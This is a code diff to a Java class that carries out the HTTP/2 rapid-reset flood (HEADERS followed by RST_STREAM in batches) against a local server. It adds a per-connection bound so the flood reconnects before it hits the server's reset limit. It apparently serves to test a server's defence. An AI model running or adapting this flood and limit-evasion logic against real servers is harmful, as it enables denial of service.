@@ -82,9 +82,11 @@ final class RapidReset {
   /**
    * Attacks 127.0.0.1:{@code port} from {@code from} for {@code length}.
    *
+   * @param perConnection streams a connection resets before the attacker closes it and reconnects (below the
+   *                      server's per-connection limit, to stay under it); 0: until the server closes it
    * @return what was sent and what came back
    */
-  static Result run(int port, String from, Duration length) throws InterruptedException {
+  static Result run(int port, String from, Duration length, int perConnection) throws InterruptedException {
     EventLoopGroup group = new MultiThreadIoEventLoopGroup(1, NioIoHandler.newFactory());
     Map<String, Long> goAways = new ConcurrentHashMap<>();
     long connections = 0;
@@ -113,7 +115,7 @@ final class RapidReset {
         }
         connections++;
         Channel channel = connecting.channel();
-        channel.eventLoop().execute(() -> flood(channel, handler[0], attack, port));
+        channel.eventLoop().execute(() -> flood(channel, handler[0], attack, port, perConnection));
         // Reconnect on GOAWAY: the next connection once this one closes.
         channel.closeFuture().await(Math.max(1, TimeUnit.NANOSECONDS.toMillis(end - System.nanoTime())));
         channel.close().await();
@@ -132,15 +134,23 @@ final class RapidReset {
     return new Result(connections, refused, sent, handled, new TreeMap<>(goAways), first);
   }
 
-  /** Sends HEADERS + RST_STREAM pairs in batches of 50 on the channel's event loop until the channel closes. */
-  private static void flood(Channel channel, Http2ConnectionHandler handler, Attack attack, int port) {
+  /**
+   * Sends HEADERS + RST_STREAM pairs in batches of 50 on the channel's event loop until the channel closes, or until
+   * {@code perConnection} were sent (then closes it; 0: no such bound).
+   */
+  private static void flood(Channel channel, Http2ConnectionHandler handler, Attack attack, int port,
+                            int perConnection) {
     if (!channel.isActive()) {
+      return;
+    }
+    if (perConnection > 0 && attack.sent.get() >= perConnection) {
+      channel.close();
       return;
     }
     ChannelHandlerContext ctx = channel.pipeline().context(handler);
     Http2Headers headers = new DefaultHttp2Headers().method("GET").path("/health/live").scheme("http")
       .authority("127.0.0.1:" + port);
-    for (int i = 0; i < 50 && channel.isActive(); i++) {
+    for (int i = 0; i < 50 && channel.isActive() && (perConnection == 0 || attack.sent.get() < perConnection); i++) {
       int id;
       try {
         id = handler.connection().local().incrementAndGetNextStreamId();
@@ -153,6 +163,6 @@ final class RapidReset {
       attack.sent.incrementAndGet();
     }
     ctx.flush();
-    channel.eventLoop().schedule(() -> flood(channel, handler, attack, port), 1, TimeUnit.MILLISECONDS);
+    channel.eventLoop().schedule(() -> flood(channel, handler, attack, port, perConnection), 1, TimeUnit.MILLISECONDS);
   }
 }
